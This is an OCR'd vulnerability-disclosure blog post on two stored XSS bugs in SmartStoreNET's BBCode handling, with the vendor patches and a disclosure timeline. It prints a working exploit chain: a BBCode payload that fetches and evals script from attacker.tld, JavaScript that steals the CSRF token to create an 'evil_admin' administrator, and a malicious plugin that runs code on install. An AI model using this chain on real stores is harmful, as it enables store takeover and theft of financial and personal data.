Blog post

SmartStoreNET - Malicious Message leading to E-Commerce Takeover

Thomas Chauchefoin photoThomas Chauchefoin

Vulnerability Researcher


  • Security
Check out the details of a Cross-Site Scripting bug in the BBCode processing in SmartStoreNET and how it can be chained into arbitrary code execution!

SmartStoreNET is the leading open-source e-commerce platform for .NET, which makes it suitable for companies running Windows Server. Next to the operation of an online business, it offers advanced features, such as CRM tools, a blog and a forum. As a result, a SmartStoreNET instance handles highly sensitive data such as credit card, financial and personally identifiable information that have to be protected from attackers.

During recent security research, we discovered two vulnerabilities that could allow attackers to gain control of the server where SmartStoreNET is installed by sending one malicious message to the instance's administrator. In this article, we present the root cause analysis of two Cross-Site Scripting bugs, and then describe how they could be exploited by attackers. Finally, we will describe the patches applied by the maintainers and the limitations of those patches.


Our findings, CVE-2021-32607 and CVE-2021-32608, impact the latest release of SmartStoreNET, 4.1.1. The maintainers released security patches as commits on GitHub. However, they decided not to release a new version with the patches; you have to build the project yourself to secure your instance. These are Cross-Site Scripting vulnerabilities that allow attackers to perform actions with the victim’s set of privileges without their knowledge. A successful attack against an administrator can lead to the compromise of the e-commerce store and the interception of financial transactions and personal data.

Their exploitation requires avictim to read either a malicious forum post or private message, specially crafted by the attacker. The following video shows all the necessary steps—note that the attack could be fully automated and the manual actions you see in the video are there to make it easier to understand:

Technical details

In this section, we describe both the root cause of the Cross-Site Scripting vulnerabilities we identified, and how they can be leveraged to gain Arbitrary CodeExecution by targeting an administrator.

The high-level idea behind these bugs is that developers correctly sanitize user-controlled data, but later apply further processing steps, thus voiding the security guarantees of the first sanitization pass, with potentially dangerous results. Simon Scannell, a member of the SonarSource R&D team, presented this code pattern at Hacktivity 2021.

Stored Cross-Site Scripting (CVE-2021-32607, CVE-2021-32608)

SmartStore comes with a public forum where all registered members can exchange posts and private messages. In these texts, users can use basic BBcode markup to add limited styling to their messages. The BBcode is translated by SmartStore.Core.Html.BBCodeHelper (src/Libraries/SmartStore.Core/Html/BBCodeHelper.cs) using regular expressions. For instance, this helper is called in SmartStore.Services.Forums.ForumExtensions (src/Libraries/SmartStore.Services/Forums/ForumExtensions.cs), after processing a user message:public static string FormatPrivateMessageText(this PrivateMessage message)
   // [...]
   var text = message.Text;
   // [...]
   text = HtmlUtils.ConvertPlainTextToHtml(text.HtmlEncode());
   return BBCodeHelper.ToHtml(text);

The call to HtmlEncode() is only a wrapper around System.Web.HttpUtility.HtmlEncode(). The intent is to encode dangerous characters to their equivalent HTML entities to prevent parts of user messages from being interpreted as HTML tags. For example, < will be encoded as <.   HtmlUtils.ConvertPlainTextToHtml() is not tasked with any security-sensitive operations; it only replaces spaces and new lines to keep formatting intact.

Notice  that during the BBCode processing, the tags with arguments ([url=...][/url], at [1]) will be processed before the ones without arguments ([url][/url], at [2]):

private static readonly Regex regexUrl1 = new Regex(@"\[url\=([^\]]+)\]([^\]]+)\[/url\]", RegexOptions.Compiled | RegexOptions.IgnoreCase);
private static readonly Regex regexUrl2 = new Regex(@"\[url\](.+?)\[/url\]", RegexOptions.Compiled | RegexOptions.IgnoreCase);
// [...]
if (replaceUrl)
   // format the url tags: [url=]my site[/url]
   // becomes: <a href="">my site</a>
   text = regexUrl1.Replace(text, "<a href=\"$1\" rel=\"nofollow\">$2</a>"); // [1]
   // format the url tags: [url][/url]
   // becomes: <a href=""></a>
   text = regexUrl2.Replace(text, "<a href=\"$1\" rel=\"nofollow\">$1</a>"); // [2]

While users can’t use quotes to escape the href attribute because of prior encoding steps, using an URL tag with arguments within an URL tag without arguments will have an unexpected result. The following drawing shows the transformation of a message containing tangled [url] BBCode tags:

User-controlled data goes through several stages ofprocessing.

When applying the second replacement, the non-encoded quotes created by the first step will close the href attribute of the second regex pass. Once processed by the browser, the final DOM will look like this—notice the presence of new, user-controlled attributes in the first <a> tag:

DOM vizualisation.

This behavior is enough to add arbitrary attributes to the first <a> tag, leading to persistent Cross-Site Scripting through forum posts and private messages. This bug is a perfect example of the sanitize-then-transform pattern and is very similar to other bugs we discussed in our previous articles (Zimbra 8.8.15 - Webmail Compromise via EmailMyBB Remote Code Execution Chain ).

Crafting a Code Execution chain

Cross-Site Scripting vulnerabilities are very powerful, because they allow attackers to perform actions with the victim’s set of privileges. The persistent nature of these bugs makes it easier for the attacker to compel the victim's interaction: who wouldn’t read a private message on a platform they administer?

We chose to demonstrate the potential impact of our findings by crafting a payload that would force the creation of a new administrator, as soon as the victim opens a private message and without further interaction. This malicious new user will then be able to use the plugins page to upload a malicious NuGet package (*.nupkg) on the server to execute arbitrary code.

The vulnerable BBCode parsing is performed on both private messages and forum posts. The following sections will focus on a scenario where only private messages are mentioned, but the exploitation process is similar for both.

Creating the Cross-Site Scripting payloadAs previously demonstrated, we are limited to adding new attributes to an <a> tag and can’t create new ones because of the various encoding stages. This limit on the usable character set will also require a stager: a deliberately small payload that will fetch and execute a larger one.

So, how can we make this payload fire as soon as the private message isrendered? We chose to use the fact that several CSS animations are implemented in the third-party library Font Awesome, which is already loaded by SmartStoreNET. By associating an animation to the <a> element we injected and creating an onwebkitanimationend attribute, it will be executed without user interaction.

The final payload you can see in the video is the following:

[url] [url=style=animation-name:fa-spin;onwebkitanimationend=$.get(`http://attacker.tld/x.js`,function(_){eval(_)}) x=] [/url] [/url]

Then, automatically creating an administrator is a pure front-end development task: the attacker only needs to fetch the CSRF token and then perform the POST request to the endpoint /admin/customer/create

async function run()
   const customer_create_url = location.protocol + '//host.tld/admin/customer/create';
   let res = await fetch(customer_create_url, {credentials: 'include'});
   var parser = new DOMParser();
   var htmlDoc = parser.parseFromString(await res.text(), 'text/html');
   let csrf = htmlDoc.getElementsByName('__RequestVerificationToken');
   data = {
       save: 'save',
       __RequestVerificationToken: csrf[0].attributes.value.nodeValue,
       Id: 0,
       Username: 'evil_admin',
       Email: 'evil_admin@evil.tld',
       Password: 'evil_admin',
       Gender: 'M',
       FirstName: 'evil',
       LastName: 'evil',
       DateOfBirth: '5/1/2021',
       Company: 'evil',
       AdminComment: 'evil',
       SelectedCustomerRoleIds: 1,
       IsTaxExempt: false,
       Active: true,
       LoadedTabs: '#customer-edit-1'
   let body = new URLSearchParams();
   Object.keys(data).map(k => body.append(k, data[k]));
   body.append('SelectedCustomerRoleIds', 3);
   let foo = await fetch(customer_create_url, {method: 'POST', body: body, credentials: 'include'});

This payload can be hosted anywhere, as long the right CORSheaders are present in the response.

Executing arbitrary code

SmartStoreNET can be extended with both official and third-party plugins. There is no “official” store for them, and no mandatory code signing: users can craft malicious packages and upload them directly from the administration dashboard.

SmartStoreNET's plugin interface.

In order to validate this idea and to try to emulate what attackers could realistically do, we crafted a SmartStoreNET plugin that would execute the command calc.exe during the install process. We then compiled it with the right .NET target and packaged it with SmartStoreNET’s tools.

using SmartStore.Core.Plugins;
// [...]
namespace SmartStore.Evil
   public class Evil : BasePlugin
       // [...]
       public static string SystemName => "SmartStore.Evil";
       // [...]
       public override void Install()
           System.Diagnostics.Process p = System.Diagnostics.Process.Start("calc.exe");
       // [...]

As demonstrated at the end of the video, this grants attackers arbitrary code execution with the privileges of the user running IIS.SmartStoreNET mitigated the two vulnerabilities by introducing a new round of sanitization at the very end of the processing chain. It is performed by the third-party library mganss/HtmlSanitizer

  • CVE-2021-32607: the Message attribute of private messages is now sanitized (3db1fae3)

--- a/src/Presentation/SmartStore.Web/Views/PrivateMessages/View.cshtml
+++ b/src/Presentation/SmartStore.Web/Views/PrivateMessages/View.cshtml
@@ -1,5 +1,6 @@
@model PrivateMessageModel
@using SmartStore.Web.Models.PrivateMessages;
+@using SmartStore.Core.Html;
    Layout = "_Layout";
@@ -28,7 +29,7 @@
            <div class="col-sm-9">
                <div class="card">
                    <div class="card-body" dir="auto">
-                        @Html.Raw(Model.Message)
+                        @Html.Raw(HtmlUtils.SanitizeHtml(Model.Message, true))
  • CVE-2021-32608: the FormattedText attribute of forum posts is now sanitized (e076c20f)

--- a/src/Presentation/SmartStore.Web/Views/Boards/Partials/_ForumPost.cshtml
+++ b/src/Presentation/SmartStore.Web/Views/Boards/Partials/_ForumPost.cshtml
@@ -1,4 +1,6 @@
@usingSmartStore.Web.Models.Boards;+@using SmartStore.Core.Html;
@model ForumPostModel
@Html.Raw("<a name=\"{0}\"></a>".FormatInvariant(Model.Id))
            <div class="post-body">
                <div class="posttext" dir="auto">
-@Html.Raw(Model.FormattedText)
+                    @Html.Raw(HtmlUtils.SanitizeHtml(Model.FormattedText))
                @Html.Hidden("Id", Model.Id)

It is interesting to note that the dangerous sanitize-then-transform pattern is still used. We were not able to identify other features that would be vulnerable, but future changes could easily re-introduce similar bugs.


2021-05-11We report both bugs to the vendor.
2021-05-12The vendor confirms the bugs, and releases patches on GitHub.
2021-08-21The vendor states that they do not plan to release a new version that would include fixes for our findings for now.


In this article, we described two Cross-Site Scripting bugs in SmartStoreNET 4.1.1 and how they could be turned into the execution of arbitrary code if an administrative user is targeted. We also explained how to exploit such bugs without user interaction by using code already loaded in theapplication. Finally, we described the mitigations implemented by the maintainers and their limitations.

We would like to thank the SmartStoreNET maintainers for their cooperation and very quick fixes. Since the vendor told us there is no planned release, we strongly advise administrators to build itfrom the source to benefitfrom the latest security fixes.

Related Blog Posts